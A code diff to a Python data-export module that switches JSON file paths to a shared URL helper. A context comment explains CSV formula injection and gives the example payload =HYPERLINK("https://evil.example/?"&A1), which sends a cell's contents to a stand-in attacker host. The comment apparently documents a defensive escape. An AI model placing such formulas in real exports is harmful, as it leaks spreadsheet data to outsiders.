@@ -13,6 +13,7 @@ import typing
 
 from ..data import model
 from ..data.index import PortalIndex
+from ..plan import urls
 
 LIST_SEPARATOR = " | "
 # A spreadsheet runs a cell starting with one of these as a formula (=HYPERLINK("https://evil.example/?"&A1)).
@@ -113,9 +114,9 @@ def export_files(index: PortalIndex) -> dict[str, str]:
     dump = lambda obj: json.dumps(obj, ensure_ascii=False, indent=2) + "\n"
     files = {"portal.json": dump(dataset(index))}
     for district in dataset(index)["districts"]:
-        files[f"municipalities/{district['slug']}.json"] = dump(district)
+        files[urls.record_json("municipalities", district["slug"])] = dump(district)
     for kind in model.RECORD_KINDS:
         files[f"{kind}.csv"] = BOM + csv_text(index, kind)
         for record_id, record in index.records[kind].items():
-            files[f"{kind}/{record_id}.json"] = dump(record_json(index, kind, record))
+            files[urls.record_json(kind, record_id)] = dump(record_json(index, kind, record))
     return files
